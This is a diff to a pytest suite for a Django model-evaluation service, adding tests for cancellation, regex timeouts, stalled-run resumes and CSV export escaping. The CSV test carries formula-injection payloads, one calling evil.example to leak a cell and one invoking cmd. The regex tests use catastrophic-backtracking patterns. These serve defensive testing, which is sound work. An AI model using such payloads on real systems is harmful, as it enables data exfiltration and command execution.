@@ -1,10 +1,10 @@
 
 import pytest
 
-from evals.actions import EvalConfigError, cancel_eval, create_eval
+from evals.actions import EvalConfigError, cancel_eval, create_eval, resume_eval
 from evals.benchmarks import gsm8k
 from evals.models import Deployment, Eval, Sample
-from evals.scoring import gsm8k_answer, last_number, strip_fences
+from evals.scoring import ScoringError, gsm8k_answer, last_number, strip_fences
 from evals.subset import select_rows
 from evals.tasks import run_eval
 
@@ -116,23 +116,30 @@ def test_retries_then_error_count_not_wrong_answers(project, owner, fake, deploy
 
 
 @pytest.mark.django_db(transaction=True)
-def test_cancel_stops_new_requests_and_keeps_what_finished(project, owner, fake, deployment):
-    fake.latency = 0.1
+def test_cancel_stops_the_worker_and_no_request_is_made_after_it(project, owner, fake, deployment):
+    import time
+
+    from .harness_fixtures import wait_for
+
+    fake.latency = 0.2  # 300 rows take a minute: time to step in
     deployment.max_in_flight = 5
     deployment.save()
     ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=300)
     worker = start_thread(run_eval, ev.pk)
-    import time
-
-    deadline = time.monotonic() + 60
-    while Eval.objects.get(pk=ev.pk).done_count < 20 and time.monotonic() < deadline:
-        time.sleep(0.05)
+    wait_for(lambda: Eval.objects.get(pk=ev.pk).done_count >= 20, interval=0.05)
+    # Hold the answers: the engine fills its five slots, then waits.
+    fake.answering.clear()
+    wait_for(lambda: fake.in_flight == 5, interval=0.01)
+    made_before_cancel = len(fake.requests)
     assert cancel_eval(ev)
+    time.sleep(2.5)  # longer than the engine takes to notice a cancel
+    fake.answering.set()  # the five finish: the slots free up, nothing new goes out
     worker.join(30)
+    assert not worker.is_alive(), "the worker kept running after cancel"
+    assert len(fake.requests) == made_before_cancel
     ev.refresh_from_db()
     assert ev.status == "cancelled"
-    assert 20 <= ev.done_count < 300
-    assert len(fake.requests) < 300
+    assert 20 <= ev.done_count < 300 and ev.done_count == Sample.objects.filter(eval=ev).count()
 
 
 @pytest.mark.django_db(transaction=True)
@@ -272,3 +279,81 @@ def test_results_pages_api_and_downloads(api, owner_client, outsider_api, projec
     assert outsider_api.get(f"/api/v1/evals/{ev.pk}").status_code == 404
     assert outsider_api.get(f"/api/v1/evals/{ev.pk}/samples").status_code == 404
     assert outsider_api.post(f"/api/v1/evals/{ev.pk}/cancel").status_code == 404
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_catastrophic_regex_errors_the_sample_within_its_time_limit(project, owner, fake, deployment):
+    import time
+
+    from evals.datasets import DatasetSpec, create_dataset
+
+    fake.answer = lambda text: "a" * 26 + "!"  # ^(a|a)*$ backtracks 2^26 ways on it
+    dataset = create_dataset(project, owner, "evil", b"".join(b'{"input": "q%d", "expected": "x"}\n' % i for i in range(6)))
+    scorers = [{"name": "regex", "options": {"pattern": "^(a|a)*$"}}]
+    # The engine scores on its event loop: one sample may hold it < 100 ms.
+    # Measured in this thread's CPU time: on a machine shared with other test
+    # runs, wall time also counts the waits for a core.
+    for pattern in ("^(a|a)*$", "^(a+)+$"):
+        started = time.thread_time()
+        try:
+            DatasetSpec(dataset, [{"name": "regex", "options": {"pattern": pattern}}]).score({"input": "q0", "reference": "x"}, "a" * 26 + "!")
+        except ScoringError as exc:
+            assert "took longer than 50 ms" in str(exc)
+        assert time.thread_time() - started < 0.1, pattern
+
+    ev = create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=scorers)
+    run_eval(ev.pk)
+    ev.refresh_from_db()
+    assert (ev.status, ev.done_count, ev.error_count) == ("succeeded", 6, 6)
+    assert all("took longer than 50 ms" in s.error for s in Sample.objects.filter(eval=ev))
+
+
+@pytest.mark.django_db
+def test_an_invalid_regex_is_refused_when_the_eval_is_created(project, owner, deployment):
+    from evals.datasets import create_dataset
+
+    dataset = create_dataset(project, owner, "d", b'{"input": "1+1", "expected": "2"}\n')
+    with pytest.raises(EvalConfigError, match="pattern is invalid"):
+        create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=[{"name": "regex", "options": {"pattern": "(unclosed"}}])
+
+
+@pytest.mark.django_db
+def test_an_eval_that_keeps_stalling_ends_error_after_bounded_resumes(project, owner, deployment, settings):
+    from django.utils import timezone
+
+    from evals.tasks import resume_stale_evals
+
+    settings.EVAL_MAX_AUTO_RESUMES = 3
+    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=5)
+    long_ago = timezone.now() - timezone.timedelta(hours=1)
+    statuses = []
+    for _ in range(6):
+        # A worker claims it and dies without a heartbeat, every time.
+        Eval.objects.filter(pk=ev.pk, status="queued").update(status="running", heartbeat_at=long_ago)
+        resume_stale_evals()
+        statuses.append(Eval.objects.get(pk=ev.pk).status)
+    assert statuses == ["queued", "queued", "queued", "error", "error", "error"]
+    ev.refresh_from_db()
+    assert "stopped 4 times in a row" in ev.status_message
+    # A person may still try again, and the count starts over.
+    assert resume_eval(ev) and Eval.objects.get(pk=ev.pk).auto_resumes == 0
+
+
+@pytest.mark.django_db(transaction=True)
+def test_csv_downloads_neutralise_formulas(api, project, owner, fake, deployment):
+    import csv
+    import io
+
+    from evals.datasets import create_dataset
+
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
+    fake.answer = lambda text: payloads[int(text[1:])]
+    dataset = create_dataset(project, owner, "f", b"".join(b'{"input": "q%d", "expected": "=1+1"}\n' % i for i in range(4)))
+    ev = create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=["exact_match"])
+    run_eval(ev.pk)
+    response = api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted(row["output"] for row in rows) == sorted("'" + p for p in payloads)
+    assert {row["reference"] for row in rows} == {"'=1+1"}
+    assert {row["score"] for row in rows} == {"0.0"}  # numbers stay numbers
